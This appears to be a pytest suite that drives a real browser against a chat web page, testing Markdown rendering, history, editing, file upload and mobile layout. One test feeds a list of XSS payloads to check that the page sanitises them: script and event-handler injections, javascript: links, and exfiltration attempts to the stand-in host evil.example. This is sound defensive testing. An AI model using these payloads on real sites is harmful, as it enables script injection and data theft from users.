"""The chat of the live page in a real browser: what a model may show, and what a reader can do."""

import json
from typing import Any

import pytest
from browser import OpenPage, Visit
from page_cases import DONE, PHONE, answer_of, ask, browser, set_option, thinking, visit
from scripted import ScriptedServer

pytestmark = pytest.mark.asyncio(loop_scope="module")

FIXTURES = (browser, thinking, visit)

MARKDOWN = """# Title

Some **bold**, *slanted* and `inline <code>` words, 1 &lt; 2, [a link](https://example.com/x).

- one
  1. nested

```python
print("<b>")
```

| name | value |
|------|------:|
| a    |    22 |
"""
HOSTILE = """<script>window.hacked = 1</script>
<img src=x onerror="window.hacked = 2"><svg onload="window.hacked = 3"></svg>

[script](javascript:window.hacked=4) [mixed](JaVaScRiPt:window.hacked=5)
[data](data:text/html,<script>window.hacked=6</script>) [file](file:///etc/passwd)
[own](/v1/models) [host](//evil.example/) ![leak](https://evil.example/leak.png?secret=1)
![data](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+) <https://evil.example/auto>

<iframe src="https://evil.example/frame"></iframe><style>body{display:none}</style>
<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">
<form action="https://evil.example/"><input name=a></form><a href="x" ping="https://evil.example/">b</a>

```html" onmouseover="window.hacked=7
<script>window.hacked = 8</script>
```
"""
ALLOWED = {
    **dict.fromkeys("P UL OL LI STRONG EM DEL CODE PRE BLOCKQUOTE HR BR H3 H4 H5 H6".split()),
    **dict.fromkeys("DIV SPAN TABLE THEAD TBODY TR TH TD".split()),
    **{"A": {"href", "target", "rel", "title"}, "BUTTON": {"type", "class"}},
}
ELEMENTS = """() => [...document.querySelectorAll('.said *')].map((node) =>
    [node.tagName, node.getAttributeNames(), node.getAttribute('href')])"""


async def opened(thinking: ScriptedServer, visit: OpenPage, **options: Any) -> Visit:
    one = await visit(thinking.url, **options)
    await one.wait_text("#status-text", "^ready$")
    return one


async def answered(one: Visit, turn: int, text: str = "Go on") -> None:
    await ask(one, text)
    await one.wait_text(answer_of(turn) + " .after", DONE)


async def conversation(one: Visit) -> list[str]:
    found: list[str] = await one.page.locator(".turn .said").all_inner_texts()
    return found


def messages(thinking: ScriptedServer) -> str:
    """The prompt of the last request, as the chat template wrote it."""
    return thinking.client.prompt


async def test_markdown_becomes_elements(thinking: ScriptedServer, visit: OpenPage) -> None:
    one = await opened(thinking, visit, permissions=["clipboard-read", "clipboard-write"])
    thinking.says(MARKDOWN)
    await answered(one, 1)
    said = one.page.locator(answer_of(1) + " .said")
    for selector, words in {
        "h3": "Title",
        "strong": "bold",
        "em": "slanted",
        "p > code": "inline <code>",
        "a[href='https://example.com/x'][rel~=noopener]": "a link",
        "ul > li > ol > li": "nested",
        "pre > code": 'print("<b>")',
        "td.to-right": "22",
    }.items():
        assert await said.locator(selector).all_inner_texts() == [words], selector
    assert "1 < 2" in await said.inner_text()
    await said.get_by_role("button", name="Copy").click()
    await one.wait_text(answer_of(1) + " .code-top", "Copied")
    assert await one.page.evaluate("navigator.clipboard.readText()") == 'print("<b>")'
    await one.page.locator(answer_of(1) + " .actions").get_by_role("button", name="Copy").click()
    await one.wait_text(answer_of(1) + " .actions", "Copied")
    assert await one.page.evaluate("navigator.clipboard.readText()") == MARKDOWN


async def test_hostile_answers_do_nothing(thinking: ScriptedServer, visit: OpenPage) -> None:
    """Nothing runs, nothing is asked of anyone, and what stands there are harmless elements."""
    asked: list[str] = []

    async def listen(page: Any) -> None:
        page.on("request", lambda request: asked.append(request.url))
        page.on("dialog", lambda dialog: asked.append(dialog.message))

    one = await opened(thinking, visit, prepare=listen)
    thinking.says(HOSTILE)
    await answered(one, 1, HOSTILE)
    await one.page.reload()  # and once more from the store
    await one.wait_text(answer_of(1) + " .after", DONE)
    elements = await one.page.evaluate(ELEMENTS)
    assert len(elements) > 10
    assert await one.page.locator(".turn.user .said *").count() == 0
    for tag, attributes, href in elements:
        assert tag in ALLOWED, tag
        assert set(attributes) <= (ALLOWED[tag] or {"class", "tabindex"}), (tag, attributes)
        assert href is None or href.startswith("https://evil.example/"), href
    said = await one.text(answer_of(1) + " .said")
    assert "<script>window.hacked = 1</script>" in said and "image: leak" in said
    assert await one.page.evaluate("window.hacked === undefined && document.body.checkVisibility()")
    assert [url for url in asked if not url.startswith(thinking.url)] == []


SLOW = {"emphasis": "**x* " * 4000, "quotes": ">" * 5000}


@pytest.mark.parametrize("name", SLOW)
async def test_costly_markdown_is_shown_as_text(
    thinking: ScriptedServer, visit: OpenPage, name: str
) -> None:
    """Texts that cost a Markdown parser their length squared stay text, and the page alive."""
    stored = {"id": "a", "title": "a", "updatedMs": 1, "turns": [
        {"role": "user", "content": "Go on"},
        {"role": "assistant", "versions": [{"content": SLOW[name], "after": "TTFT"}], "at": 0},
    ]}  # fmt: skip

    async def store(page: Any) -> None:
        script = f"localStorage.setItem('headway-chat-a', {json.dumps(json.dumps(stored))});"
        await page.add_init_script(script + "sessionStorage.setItem('headway-open-chat', 'a')")

    one = await visit(thinking.url, prepare=store)
    await one.wait_text("#status-text", "^ready$")
    [shown] = await one.page.locator(answer_of(1) + " .said > *").all()
    assert await shown.text_content() == SLOW[name]


async def test_a_system_prompt_and_settings_are_sent_and_stay(
    thinking: ScriptedServer, visit: OpenPage
) -> None:
    one = await opened(thinking, visit)
    await set_option(one, "system", "You are a pirate.")
    await one.page.fill("#chat-max", "7")
    await one.page.fill("#chat-temperature", "0.25")
    await one.page.fill("#chat-more", '{"top_k": 3')
    await ask(one, "Hello")
    await one.wait_text(".turn .error", "not a JSON object")
    assert await one.page.input_value("#chat-input") == "Hello", "the question is not lost"
    await one.page.fill("#chat-more", '{"top_k": 3}')
    thinking.says("Arr")
    await ask(one, "Hello")
    await one.wait_text(".turn:last-of-type .after", DONE)
    sampling = thinking.client.asked[-1].sampling
    assert (sampling.temperature, sampling.top_k, sampling.max_tokens) == (0.25, 3, 7)
    assert "You are a pirate." in messages(thinking)
    await one.page.reload()
    assert await one.page.input_value("#chat-system") == "You are a pirate."


async def test_an_answer_is_asked_again_and_both_stay(
    thinking: ScriptedServer, visit: OpenPage
) -> None:
    one = await opened(thinking, visit)
    thinking.says("First.", "Second.", "Third.")
    await answered(one, 1, "Hello")
    await one.page.get_by_role("button", name="Regenerate").click()
    await one.wait_text(answer_of(1) + " .versions", "2 of 2")
    await one.wait_text(answer_of(1) + " .said", "Second")
    assert "First." not in messages(thinking)
    await one.page.get_by_role("button", name="Earlier version").click()
    assert await one.text(answer_of(1) + " .said") == "First."
    await answered(one, 2, "And then?")
    assert "First." in messages(thinking) and "Second." not in messages(thinking)
    await one.page.reload()
    await one.wait_text(answer_of(1) + " .versions", "1 of 2")
    assert await conversation(one) == ["Hello", "First.", "And then?", "Third."]


async def test_a_message_is_edited_and_the_former_conversation_stays(
    thinking: ScriptedServer, visit: OpenPage
) -> None:
    one = await opened(thinking, visit)
    thinking.says("One.", "Two.", "Three.")
    await answered(one, 1, "First question")
    await answered(one, 2, "Second question")
    await one.page.press("#chat-input", "ArrowUp")
    assert await one.page.input_value("#chat-input") == "Second question"
    await one.page.press("#chat-input", "Escape")
    assert await one.page.input_value("#chat-input") == ""
    await one.page.get_by_role("button", name="Edit").first.click()
    await one.page.fill("#chat-input", "Another question")
    await one.page.press("#chat-input", "Enter")
    await one.wait_text(answer_of(1) + " .said", "Three")
    await one.wait_text(answer_of(1) + " .after", DONE)
    assert await conversation(one) == ["Another question", "Three."]
    await one.page.keyboard.press("Control+k")
    await one.page.fill("#history-search", "second QUESTION")
    assert await one.page.locator("#history-list li").count() == 1
    await one.page.locator("#history-list .open").click()
    assert await conversation(one) == ["First question", "One.", "Second question", "Two."]


async def test_conversations_are_kept_opened_and_deleted(
    thinking: ScriptedServer, visit: OpenPage
) -> None:
    one = await opened(thinking, visit)
    for word in ("apples", "pears"):
        thinking.says(f"Of {word}.")
        await answered(one, 1, f"Tell me of {word}")
        await one.page.keyboard.press("Control+Shift+O")
        assert await conversation(one) == []
    await one.page.click("#chat-history")
    titles = one.page.locator("#history-list b")
    assert await titles.all_inner_texts() == ["Tell me of pears", "Tell me of apples"]
    async with one.page.expect_download() as download:
        await one.page.click("#history-save")
    saved = json.loads((await (await download.value).path()).read_text())
    assert [each["turns"][1]["versions"][0]["content"] for each in saved] == [
        "Of pears.",
        "Of apples.",
    ]
    await one.page.get_by_role("button", name="Delete Tell me of pears").click()
    assert await titles.all_inner_texts() == ["Tell me of apples"]
    await titles.first.click()
    assert await conversation(one) == ["Tell me of apples", "Of apples."]
    await one.page.click("#chat-history")
    await one.page.click("#history-clear")
    assert await titles.count() == 1, "the first click only asks"
    await one.page.click("#history-clear")
    assert await titles.count() == 0 and await conversation(one) == []
    kept = "Object.keys(localStorage).filter((name) => name.startsWith('headway-chat-'))"
    assert await one.page.evaluate(kept) == []


async def test_files_are_sent_as_text(thinking: ScriptedServer, visit: OpenPage) -> None:
    one = await opened(thinking, visit)
    await one.page.set_input_files(
        "#chat-file",
        [
            {"name": "notes.txt", "mimeType": "text/plain", "buffer": b"one ``` two"},
            {"name": "more.py", "mimeType": "text/x-python", "buffer": b"print(1)"},
            {"name": "image.png", "mimeType": "image/png", "buffer": b"\x89PNG\xff\x00"},
            {"name": "large.txt", "mimeType": "text/plain", "buffer": b"x" * (600 * 1024)},
        ],
    )
    fault = await one.wait_text("#chat-file-error", "large")
    assert fault == "image.png is not text in UTF-8. large.txt is larger than 512 KiB."
    await one.page.get_by_role("button", name="Remove more.py").click()
    thinking.says("Read.")
    await answered(one, 1, "What is in it?")
    prompt = messages(thinking)
    assert "File notes.txt:\n````\none ``` two\n````\n\nWhat is in it?" in prompt
    assert "print(1)" not in prompt
    assert await one.text(".turn.user .files") == "notes.txt, 11\u00a0B"
    assert await one.page.locator("#chat-files li").count() == 0


async def test_on_a_phone_the_chat_is_first_and_targets_are_large(
    thinking: ScriptedServer, visit: OpenPage
) -> None:
    one = await opened(thinking, visit, viewport=PHONE, has_touch=True)
    thinking.says(MARKDOWN)
    await answered(one, 1)
    chat, figures = [await one.page.locator(each).bounding_box() for each in ("#chat", "#figures")]
    assert chat["y"] < figures["y"] and chat["y"] < PHONE["height"] / 2
    small = await one.page.evaluate(
        """() => [...document.querySelectorAll('button, input, select, textarea, summary, a.plain')]
        .filter((node) => node.checkVisibility())
        .map((node) => [node, node.getBoundingClientRect()])
        .filter(([, box]) => box.height < 24 || box.width < 24)
        .map(([node, box]) => `${node.outerHTML.slice(0, 60)} ${box.width}×${box.height}`)"""
    )
    assert small == []
    assert not await one.is_wider_than_the_screen()
